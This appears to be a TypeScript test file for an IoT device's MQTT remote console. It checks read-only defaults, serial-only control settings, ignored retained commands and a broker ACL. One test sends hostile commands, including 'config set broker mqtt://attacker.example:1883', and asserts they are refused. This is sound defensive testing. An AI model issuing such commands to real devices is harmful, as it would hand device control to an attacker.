// The remote console is safe by default, against the firmware in XS and a real mosquitto: only read-only commands
// run from tether/<id>/cmd unless remoteCommands allows more; what decides who controls the device (broker,
// credentials, the client id and topics, the allow-list itself) is never changed from there; retained commands are
// ignored; an empty remoteCommands turns the remote console off. And the README's mosquitto ACL keeps a client
// that is not an operator from commanding a device at all.
import { readFileSync } from "node:fs";
import { connect, type MqttClient } from "mqtt";
import { devices, type Probe, uniqueId } from "../diagnostics/helpers/device";
import { describeMosquitto, type Mosquitto, startMosquitto } from "../helpers/mosquitto";

const boot = devices().boot;
let mosquitto: Mosquitto;
const peers: MqttClient[] = [];

beforeAll(async () => {
  mosquitto = await startMosquitto();
  await peer(mosquitto);
});

afterAll(async () => {
  await Promise.all(peers.map((p) => p.endAsync(true)));
  await mosquitto?.stop();
});

interface Peer {
  client: MqttClient;
  replies: string[];
}

/** An MQTT.js client that collects what arrives on tether/<id>/reply once `listen(id)` has subscribed it. */
async function peer(broker: Mosquitto, options: { username?: string; password?: string } = {}): Promise<Peer> {
  const client = connect(broker.url, { reconnectPeriod: 0, ...options });
  client.on("error", () => {});
  peers.push(client);
  const replies: string[] = [];
  client.on("message", (topic, payload) => topic.endsWith("/reply") && replies.push(payload.toString()));
  await new Promise<void>((resolve) => client.once("connect", () => resolve()));
  return { client, replies };
}

async function waitFor(condition: () => boolean, ms = 20000): Promise<void> {
  for (const end = Date.now() + ms; !condition(); ) {
    if (Date.now() > end) throw new Error(`condition not met within ${ms} ms`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/** Sends each command to the device's command topic and resolves with the replies to all of them, in order. */
async function ask(p: Peer, id: string, commands: string[]): Promise<string[]> {
  const from = p.replies.length;
  for (const command of commands) await p.client.publishAsync(`tether/${id}/cmd`, command, { qos: 1 });
  await waitFor(() => p.replies.length >= from + commands.length);
  return p.replies.slice(from);
}

async function connected(config: Record<string, string>, broker = mosquitto): Promise<Probe> {
  const device = await boot({ broker: broker.url, ...config });
  await device.waitForLine(/ I mqtt connected /);
  return device;
}

const NOT_ALLOWED = "not allowed on the command topic (the setting remoteCommands lists what is)";

describeMosquitto("remote console", () => {
  test.concurrent("by default only status, stats, history and help run from the command topic", async () => {
    const id = uniqueId("ro");
    const device = await connected({ clientId: id });
    await device.waitForLine(/ I mqtt subscribed filters=tether\/.*\/cmd /);
    const p = await peer(mosquitto);
    await p.client.subscribeAsync([`tether/${id}/reply`, "stolen/#"], { qos: 1 });
    const [status, stats, history, help, config, set, pub, sub] = await ask(p, id, [
      "status",
      "stats",
      "history",
      "help status",
      "config get",
      "config set broker mqtt://attacker.example:1883",
      "pub stolen/x y",
      "sub #",
    ]);
    expect(status).toMatch(/^state=connected /);
    expect(stats).toMatch(/^conn attempts=1 /);
    expect(history).toMatch(/^history events=/);
    expect(help).toBe("status - connection state, broker, uptime, last failure");
    expect([config, set, pub, sub]).toEqual([
      `error: config: ${NOT_ALLOWED}`,
      `error: config: ${NOT_ALLOWED}`,
      `error: pub: ${NOT_ALLOWED}`,
      `error: sub: ${NOT_ALLOWED}`,
    ]);
    expect(await device.command("config get broker", /broker=/)).toEqual([`broker=${mosquitto.url}`]);
    expect(device.lines().some((line) => / I mqtt subscribed filters=#/.test(line))).toBe(false);
  });

  test.concurrent("even when config is allowed, who controls the device is changed on serial only", async () => {
    const id = uniqueId("ctl");
    const device = await connected({ clientId: id, remoteCommands: "config" });
    const p = await peer(mosquitto);
    await p.client.subscribeAsync(`tether/${id}/reply`, { qos: 1 });
    const local = ["broker", "brokerCa", "clientId", "mqttUser", "mqttPassword", "topicPrefix", "remoteCommands"];
    const replies = await ask(p, id, [...local.map((key) => `config set ${key} x`), "config set keepAlive 30"]);
    expect(replies).toEqual([
      ...local.map(
        (key) => `error: ${key} can only be changed on the serial console; usage: config get|set <key> [value]`,
      ),
      "keepAlive=30 saved; applies after reboot",
    ]);
    // The serial console may: an allow-list of real commands only.
    expect(await device.command("config set remoteCommands status,bogus", /error/)).toEqual([
      'error: remoteCommands: no command "bogus"; usage: config get|set <key> [value]',
    ]);
    expect(await device.command("config set remoteCommands status,pub", /remoteCommands/)).toEqual([
      "remoteCommands=status,pub saved; applies after reboot",
    ]);
  });

  test.concurrent("a retained command is ignored, with one line; a live one is answered", async () => {
    const id = uniqueId("retained");
    const p = await peer(mosquitto);
    await p.client.subscribeAsync(`tether/${id}/reply`, { qos: 1 });
    await p.client.publishAsync(`tether/${id}/cmd`, "history", { qos: 1, retain: true });
    const device = await connected({ clientId: id });
    expect(await device.waitForLine(/ W app command_ignored /)).toMatch(
      / W app command_ignored reason=retained bytes=7$/,
    );
    expect(await ask(p, id, ["status"])).toEqual([expect.stringMatching(/^state=connected /)]);
    expect(p.replies).toHaveLength(1);
    await p.client.publishAsync(`tether/${id}/cmd`, "", { qos: 1, retain: true });
  });

  test.concurrent("a build-time allow-list naming no command is named at boot; the rest applies", async () => {
    const id = uniqueId("unknown");
    const device = await connected({ clientId: id, remoteCommands: "status,stauts" });
    expect(device.lines().filter((line) => / W app /.test(line))).toEqual([
      expect.stringMatching(/ W app remote_commands unknown=stauts$/),
    ]);
    await device.waitForLine(/ I mqtt subscribed filters=tether\/.*\/cmd /);
    const p = await peer(mosquitto);
    await p.client.subscribeAsync(`tether/${id}/reply`, { qos: 1 });
    expect(await ask(p, id, ["status", "stats"])).toEqual([
      expect.stringMatching(/^state=connected /),
      `error: stats: ${NOT_ALLOWED}`,
    ]);
  });

  test.concurrent("remoteCommands empty: the device does not even subscribe to its command topic", async () => {
    const id = uniqueId("off");
    const device = await connected({ clientId: id, remoteCommands: "" });
    await device.command(`sub sync/${id} 1`, /sub sent/);
    await device.waitForLine(new RegExp(` I mqtt subscribed filters=sync/${id} `));
    const p = await peer(mosquitto);
    await p.client.subscribeAsync(`tether/${id}/reply`, { qos: 1 });
    await p.client.publishAsync(`tether/${id}/cmd`, "status", { qos: 1 });
    await p.client.publishAsync(`sync/${id}`, "after", { qos: 1 });
    await device.waitForLine(new RegExp(` I mqtt message topic=sync/${id} `));
    expect(device.lines().filter((line) => / I mqtt subscribed /.test(line))).toHaveLength(1);
    expect(p.replies).toEqual([]);
  });
});

describeMosquitto("the README's mosquitto ACL", () => {
  test("only an operator's command reaches the device", async () => {
    const acl = /```acl\n([\s\S]*?)```/.exec(readFileSync("README.md", "utf8"))?.[1];
    expect(acl).toContain("tether/%c/cmd");
    const id = uniqueId("acl");
    const broker = await startMosquitto({
      users: { operator: "op-pw", guest: "guest-pw", [id]: "dev-pw" },
      config: ["acl_file acl", "use_username_as_clientid true"],
      files: { acl: acl! },
    });
    try {
      const device = await connected({ clientId: id, mqttUser: id, mqttPassword: "dev-pw" }, broker);
      await device.waitForLine(/ I mqtt subscribed filters=tether\/.*\/cmd codes=1/);
      const guest = await peer(broker, { username: "guest", password: "guest-pw" });
      const operator = await peer(broker, { username: "operator", password: "op-pw" });
      await operator.client.subscribeAsync(`tether/${id}/reply`, { qos: 1 });
      // mosquitto acknowledges the guest's publish and drops it: it reaches the broker before the operator's.
      await guest.client.publishAsync(`tether/${id}/cmd`, "history", { qos: 1 });
      expect(await ask(operator, id, ["status"])).toEqual([expect.stringMatching(/^state=connected /)]);
      expect(operator.replies).toHaveLength(1);
    } finally {
      await Promise.all(peers.splice(1).map((p) => p.endAsync(true)));
      await broker.stop();
    }
  });
});
